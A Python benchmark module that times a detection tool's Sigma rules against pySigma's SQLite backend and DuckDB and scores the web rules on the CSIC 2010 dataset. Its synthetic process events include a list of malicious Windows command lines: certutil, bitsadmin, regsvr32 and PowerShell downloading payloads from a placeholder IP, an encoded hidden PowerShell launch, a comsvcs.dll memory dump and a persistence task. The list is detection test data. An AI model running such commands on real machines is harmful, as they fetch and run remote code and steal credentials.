"""Sigma: the pack's web and process rules on one core, three ways, and their CSIC 2010 accuracy.

The same events go through the same Sigma rules (`src/vigil/detect/pack/sigma/`):

- Vigil: each rule compiled by `vigil.detect.sigma` to one polars expression, evaluated
  over whole frames of `http_activity` and `process_activity` (OCSF columns);
- pySigma's SQLite backend (`sigma.backends.sqlite`): each rule converted to SQL with
  no pipeline, so the table's columns are the Sigma field names (`cs-uri-query`,
  `CommandLine`), run over an in-memory SQLite table per log source; `|re` needs a
  REGEXP function, registered from Python's `re` as Zircolite does;
- DuckDB: the same generated SQL over a DuckDB table, with the SQLite dialect translated
  (`LIKE` to `ILIKE`, `REGEXP` to `regexp_matches`), one thread.

Each way counts the events every rule matches (the backends' `SELECT *` becomes
`SELECT count(*)`); the counts must agree, else the figure says so. Events: the CSIC
2010 dev requests (`../shared/data/webattacks/`, or `VIGIL_CSIC`) replicated to
`--events`, plus a quarter as many synthetic process creations, one in a hundred of
them malicious. Each measurement runs in its own process pinned to one core
(`taskset -c 0`), as in `bench/ingest.py`; loading tables is not timed.

CSIC requests become `http_activity` rows: method, path, query string, user agent.
OCSF HTTP Activity has no request-body column, so a POST's form body is put in the
query string (after the URL's own query, if any): the rules then see the parameters
wherever the client sent them. Accuracy is "any web Sigma rule fires" against the
label, and per rule.

python -m bench sigma --events 1000000
python -m bench.sigma csic        # accuracy figures only
"""

from __future__ import annotations

import json
import os
import random
import re
import shutil
import sqlite3
import statistics
import subprocess
import sys
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import polars as pl

from bench.types import Figure

ROOT = Path(__file__).resolve().parents[1]
PACK = ROOT / "src" / "vigil" / "detect" / "pack" / "sigma"
CSIC = Path(os.environ.get("VIGIL_CSIC", ROOT.parent / "shared" / "data" / "webattacks"))
REQUESTS = "csic2010_dev_requests.txt"
TRUTH = "csic2010_dev_truth.tsv"
T0 = datetime(2026, 11, 27, 12, tzinfo=UTC)
PROCESS_SHARE = 4
"""One process event for every this many web events."""

WEB_COLUMNS = {
    "http_request.http_method": "cs-method",
    "http_request.url.path": "cs-uri-stem",
    "http_request.url.query_string": "cs-uri-query",
    "http_request.url.url_string": "cs-uri",
    "http_request.user_agent": "cs-user-agent",
    "src_endpoint.ip": "c-ip",
    "http_response.code": "sc-status",
}
PROCESS_COLUMNS = {
    "process.path": "Image",
    "process.cmd_line": "CommandLine",
    "process.parent_process.path": "ParentImage",
    "process.parent_process.cmd_line": "ParentCommandLine",
    "process.user.name": "User",
    "process.file.name": "OriginalFileName",
    "device.hostname": "Computer",
}
"""OCSF column -> the Sigma field the backends' tables use, per class."""
COLUMNS = {"http_activity": WEB_COLUMNS, "process_activity": PROCESS_COLUMNS}


# --- events -------------------------------------------------------------------------------


def _user_agent(raw: bytes, offset: int) -> str | None:
    end = raw.find(b"\n\n", offset)
    for line in raw[offset : end if end > 0 else None].split(b"\n"):
        if line.lower().startswith(b"user-agent:"):
            return line.split(b":", 1)[1].strip().decode("latin-1")
    return None


def csic_requests(folder: Path = CSIC) -> pl.DataFrame:
    """The CSIC dev requests as `http_activity` columns plus `label` (True = anomalous)."""
    truth = pl.read_csv(
        folder / TRUTH,
        separator="\t",
        quote_char=None,
        schema_overrides={"body": pl.String, "url": pl.String},
    )
    raw = (folder / REQUESTS).read_bytes().replace(b"\r\n", b"\n")
    offsets = truth.get_column("byte_offset").to_list()
    agents = [_user_agent(raw, offset) for offset in offsets]
    return requests_frame(
        truth.get_column("method").to_list(),
        truth.get_column("url").to_list(),
        truth.get_column("body").to_list(),
        agents,
    ).with_columns(label=truth.get_column("label") == "anomalous")


def requests_frame(
    methods: Sequence[str],
    urls: Sequence[str],
    bodies: Sequence[str | None],
    agents: Sequence[str | None],
) -> pl.DataFrame:
    """HTTP requests as `http_activity` rows; a POST body goes into the query string."""
    paths: list[str] = []
    queries: list[str | None] = []
    targets: list[str] = []
    for url, body in zip(urls, bodies, strict=True):
        target = re.sub(r"^[a-z]+://[^/]*", "", url)
        path, _, query = target.partition("?")
        parts = [part for part in (query, body or "") if part]
        paths.append(path)
        queries.append("&".join(parts) or None)
        targets.append(target)
    count = len(paths)
    return pl.DataFrame(
        {
            "time": [T0 + timedelta(milliseconds=index) for index in range(count)],
            "http_request.http_method": list(methods),
            "http_request.url.path": paths,
            "http_request.url.query_string": queries,
            "http_request.url.url_string": targets,
            "http_request.user_agent": list(agents),
            "src_endpoint.ip": [f"198.51.100.{index % 250 + 1}" for index in range(count)],
            "http_response.code": [200] * count,
        },
        schema_overrides={"time": pl.Datetime("ms", "UTC"), "http_response.code": pl.Int32},
    )


_BENIGN = [
    (r"C:\Windows\System32\svchost.exe", "svchost.exe -k netsvcs -p", r"C:\Windows\System32\services.exe"),
    (r"C:\Program Files\Retail\POS\posclient.exe", '"posclient.exe" /lane 3', r"C:\Windows\explorer.exe"),
    (r"C:\Windows\System32\cmd.exe", r"cmd.exe /c C:\Retail\eod\close_day.bat", r"C:\Windows\System32\taskeng.exe"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell.exe -File C:\\Retail\\inventory.ps1", r"C:\Windows\System32\svchost.exe"),
    (r"C:\Windows\System32\rundll32.exe", "rundll32.exe shell32.dll,Control_RunDLL desk.cpl", r"C:\Windows\explorer.exe"),
    (r"C:\Windows\System32\schtasks.exe", "schtasks.exe /query /fo LIST", r"C:\Windows\System32\cmd.exe"),
    (r"C:\Windows\System32\certutil.exe", "certutil.exe -store my", r"C:\Windows\System32\cmd.exe"),
    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", "chrome.exe --type=renderer", r"C:\Program Files\Google\Chrome\Application\chrome.exe"),
]  # fmt: skip
_MALICIOUS = [
    (r"C:\Windows\System32\certutil.exe", "certutil -urlcache -split -f http://203.0.113.7/p.exe C:\\ProgramData\\p.exe", r"C:\Windows\System32\cmd.exe"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A", r"C:\Windows\System32\cmd.exe"),
    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')", r"C:\Windows\explorer.exe"),
    (r"C:\Windows\System32\regsvr32.exe", "regsvr32 /s /n /u /i:http://203.0.113.7/a.sct scrobj.dll", r"C:\Windows\System32\cmd.exe"),
    (r"C:\Windows\System32\rundll32.exe", r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 812 C:\ProgramData\pos.dmp full", r"C:\Windows\System32\cmd.exe"),
    (r"C:\Windows\System32\schtasks.exe", r"schtasks /create /sc minute /mo 5 /tn Updater /tr C:\Users\Public\upd.exe", r"C:\Windows\System32\cmd.exe"),
    (r"C:\Windows\PSEXESVC.exe", "PSEXESVC.exe", r"C:\Windows\System32\services.exe"),
    (r"C:\Windows\System32\bitsadmin.exe", r"bitsadmin /transfer j http://203.0.113.7/a.exe C:\ProgramData\a.exe", r"C:\Windows\System32\cmd.exe"),
]  # fmt: skip


def process_events(count: int, seed: int = 7) -> pl.DataFrame:
    """Synthetic process creations on POS lanes and back-office PCs, 1 % malicious."""
    rng = random.Random(seed)
    rows = [
        rng.choice(_MALICIOUS) if rng.random() < 0.01 else rng.choice(_BENIGN) for _ in range(count)
    ]
    return pl.DataFrame(
        {
            "time": [T0 + timedelta(milliseconds=index) for index in range(count)],
            "process.path": [row[0] for row in rows],
            "process.cmd_line": [row[1] for row in rows],
            "process.parent_process.path": [row[2] for row in rows],
            "process.parent_process.cmd_line": [None] * count,
            "process.user.name": ["STORE\\pos"] * count,
            "process.file.name": [row[0].rsplit("\\", 1)[-1] for row in rows],
            "device.hostname": [f"s{index % 40:03d}-pos-{index % 6}" for index in range(count)],
        },
        schema_overrides={
            "time": pl.Datetime("ms", "UTC"),
            "process.parent_process.cmd_line": pl.String,
        },
    )


def replicate(frame: pl.DataFrame, rows: int) -> pl.DataFrame:
    copies = -(-rows // max(frame.height, 1))
    return pl.concat([frame] * copies).head(rows)


# --- rules --------------------------------------------------------------------------------


@dataclass(frozen=True)
class PackRule:
    """One detection of the pack: its compiled expression and its SQLite query."""

    uid: str
    title: str
    event_class: str
    expr: pl.Expr
    sql: str


def pack_rules(folder: Path = PACK) -> list[PackRule]:
    """The alerting web and process detections of the pack's Sigma files."""
    from sigma.backends.sqlite.sqlite import sqliteBackend
    from sigma.collection import SigmaCollection
    from sigma.rule import SigmaRule

    from vigil.detect.sigma import SigmaDetection, load_sigma

    found: list[PackRule] = []
    for path in sorted(folder.glob("*.yaml")):
        text = path.read_text(encoding="utf-8")
        detections = [
            item
            for item in load_sigma(text, str(path))
            if isinstance(item, SigmaDetection) and item.event_class in COLUMNS
        ]
        if not detections:
            continue
        backend: Any = sqliteBackend(collate_nocase=True)  # type: ignore[no-untyped-call]
        by_id: dict[str, str] = {}
        for rule in SigmaCollection.from_yaml(text).rules:
            queries = backend.convert_rule(rule) if isinstance(rule, SigmaRule) else None
            if queries:
                by_id[str(rule.id)] = str(queries[0])
        found.extend(
            PackRule(d.uid, d.meta.title, d.event_class, d.expr, by_id[d.uid]) for d in detections
        )
    return found


def count_sql(sql: str, table: str) -> str:
    """`SELECT * FROM logs WHERE ...` as a count over `table`."""
    return re.sub(r"^SELECT \* FROM logs", f"SELECT count(*) FROM {table}", sql)


def duckdb_sql(sql: str) -> str:
    """The SQLite backend's dialect in DuckDB: case-insensitive LIKE, regexp_matches."""
    out: list[str] = []
    for literal, name, other in _TOKENS.findall(sql):
        if literal:
            out.append(literal)
        elif name:
            out.append(f'"{name}"')
        else:
            out.append(other.replace(" LIKE ", " ILIKE "))
    return re.sub(_REGEXP, r"regexp_matches(\1, \2)", "".join(out))


_TOKENS = re.compile(r"('(?:[^']|'')*')|`([^`]+)`|([^'`]+)")
"""A SQL string literal, a backtick-quoted name, or anything else."""
_REGEXP = re.compile(r"(\"[^\"]+\"|\w+) REGEXP ('(?:[^']|'')*')")


# --- accuracy -----------------------------------------------------------------------------


@dataclass(frozen=True)
class Scores:
    true_pos: int
    false_pos: int
    false_neg: int

    @property
    def precision(self) -> float:
        flagged = self.true_pos + self.false_pos
        return self.true_pos / flagged if flagged else 0.0

    @property
    def recall(self) -> float:
        positives = self.true_pos + self.false_neg
        return self.true_pos / positives if positives else 0.0

    @property
    def f1(self) -> float:
        total = self.precision + self.recall
        return 2 * self.precision * self.recall / total if total else 0.0


def score(fired: pl.Series, label: pl.Series) -> Scores:
    return Scores(
        int((fired & label).sum()), int((fired & ~label).sum()), int((~fired & label).sum())
    )


def csic_scores(requests: pl.DataFrame, rules: Sequence[PackRule]) -> dict[str, Scores]:
    """Scores of each web rule (by title) and of `any` web rule, against the CSIC label."""
    web = [rule for rule in rules if rule.event_class == "http_activity"]
    fired = requests.select([rule.expr.fill_null(False).alias(rule.title) for rule in web])
    label = requests.get_column("label")
    scores = {
        "any web Sigma rule": score(fired.select(pl.any_horizontal(pl.all())).to_series(), label)
    }
    scores.update({rule.title: score(fired.get_column(rule.title), label) for rule in web})
    return scores


def csic_report(scores: dict[str, Scores]) -> str:
    lines = [
        f"{'CSIC 2010 dev (12,000 requests)':<60} {'prec':>6} {'recall':>6} {'F1':>6} {'TP':>5} {'FP':>5} {'FN':>5}"
    ]
    for name, item in scores.items():
        lines.append(
            f"{name:<60} {item.precision:6.3f} {item.recall:6.3f} {item.f1:6.3f} "
            f"{item.true_pos:5d} {item.false_pos:5d} {item.false_neg:5d}"
        )
    return "\n".join(lines)


# --- throughput ---------------------------------------------------------------------------


def _frames(events: int) -> dict[str, pl.DataFrame]:
    web = replicate(csic_requests().drop("label"), events)
    return {
        "http_activity": web,
        "process_activity": process_events(max(1, events // PROCESS_SHARE)),
    }


def _vigil(frames: dict[str, pl.DataFrame], rules: Sequence[PackRule]) -> dict[str, int]:
    counts: dict[str, int] = {}
    for name, frame in frames.items():
        mine = [rule for rule in rules if rule.event_class == name]
        row = frame.select([rule.expr.fill_null(False).sum().alias(rule.uid) for rule in mine])
        counts.update({uid: int(value) for uid, value in row.row(0, named=True).items()})
    return counts


def _sqlite_regexp(pattern: str, value: object) -> bool:
    return value is not None and re.search(pattern, str(value)) is not None


def _sqlite(
    frames: dict[str, pl.DataFrame], rules: Sequence[PackRule]
) -> Callable[[], dict[str, int]]:
    connection = sqlite3.connect(":memory:")
    connection.create_function("REGEXP", 2, _sqlite_regexp, deterministic=True)
    for name, frame in frames.items():
        renamed = frame.select([pl.col(c).alias(s) for c, s in COLUMNS[name].items()])
        columns = ", ".join(f'"{column}"' for column in renamed.columns)
        marks = ", ".join("?" for _ in renamed.columns)
        connection.execute(f"CREATE TABLE {name} ({columns})")
        connection.executemany(f"INSERT INTO {name} VALUES ({marks})", renamed.iter_rows())
    connection.commit()

    def run() -> dict[str, int]:
        return {
            rule.uid: connection.execute(count_sql(rule.sql, rule.event_class)).fetchone()[0]
            for rule in rules
        }

    return run


def _duckdb(
    frames: dict[str, pl.DataFrame], rules: Sequence[PackRule]
) -> Callable[[], dict[str, int]]:
    import duckdb

    connection = duckdb.connect(config={"threads": 1})
    for name, frame in frames.items():
        renamed = frame.select([pl.col(c).alias(s) for c, s in COLUMNS[name].items()])
        connection.register("source", renamed.to_arrow())
        connection.execute(f"CREATE TABLE {name} AS SELECT * FROM source")
        connection.unregister("source")
    queries = {rule.uid: duckdb_sql(count_sql(rule.sql, rule.event_class)) for rule in rules}

    def run() -> dict[str, int]:
        return {uid: connection.execute(sql).fetchone()[0] for uid, sql in queries.items()}  # type: ignore[index]

    return run


def _worker(way: str, events: int) -> dict[str, Any]:
    """One measurement, in this (pinned) process."""
    rules = pack_rules()
    frames = _frames(events)
    total = sum(frame.height for frame in frames.values())
    if way == "vigil":
        _vigil({k: v.head(1000) for k, v in frames.items()}, rules)  # warm-up, untimed
        action: Callable[[], dict[str, int]] = lambda: _vigil(frames, rules)  # noqa: E731
    elif way == "sqlite":
        action = _sqlite(frames, rules)
    else:
        action = _duckdb(frames, rules)
    start = time.perf_counter()
    counts = action()
    seconds = time.perf_counter() - start
    return {"events": total, "seconds": seconds, "counts": counts, "rules": len(rules)}


def _measure(way: str, events: int) -> dict[str, Any]:
    command = [sys.executable, "-m", "bench.sigma", way, str(events)]
    if shutil.which("taskset"):
        command = ["taskset", "-c", "0", *command]
    done = subprocess.run(
        command, capture_output=True, text=True, check=False, env=os.environ, cwd=ROOT
    )
    if done.returncode != 0:
        raise RuntimeError(f"{way}: {done.stderr.strip()[-2000:]}")
    return json.loads(done.stdout.strip().splitlines()[-1])  # type: ignore[no-any-return]


WAYS = {
    "vigil": "Vigil: compiled polars expressions",
    "sqlite": "pySigma SQLite backend, in-memory SQLite",
    "duckdb": "same SQL in DuckDB, 1 thread",
}


def run(events: int, repeat: int) -> list[Figure]:
    rules = pack_rules()
    print(csic_report(csic_scores(csic_requests(), rules)))
    runs = {way: [_measure(way, events) for _ in range(repeat)] for way in WAYS}
    counts = {way: done[0]["counts"] for way, done in runs.items()}
    rates = {
        way: statistics.median(r["events"] / r["seconds"] for r in done)
        for way, done in runs.items()
    }
    total = runs["vigil"][0]["events"]
    figures = [
        Figure(f"{WAYS['vigil']}: {len(rules)} rules, {total:,} events", rates["vigil"], "events/s")
    ]
    for way in ("sqlite", "duckdb"):
        agree = "same matches" if counts[way] == counts["vigil"] else "MATCHES DIFFER"
        figures.append(
            Figure(
                f"Vigil vs {WAYS[way]} ({agree})",
                rates["vigil"],
                "events/s",
                rates[way],
                WAYS[way],
            )
        )
    differ = {
        way: {
            uid: (n, counts["vigil"].get(uid))
            for uid, n in c.items()
            if counts["vigil"].get(uid) != n
        }
        for way, c in counts.items()
    }
    for way, items in differ.items():
        for uid, (theirs, ours) in items.items():
            print(f"{way}: rule {uid} matched {theirs}, Vigil {ours}")
    return figures


if __name__ == "__main__":
    if sys.argv[1:] == ["csic"]:
        print(csic_report(csic_scores(csic_requests(), pack_rules())))
    else:
        print(json.dumps(_worker(sys.argv[1], int(sys.argv[2]))))
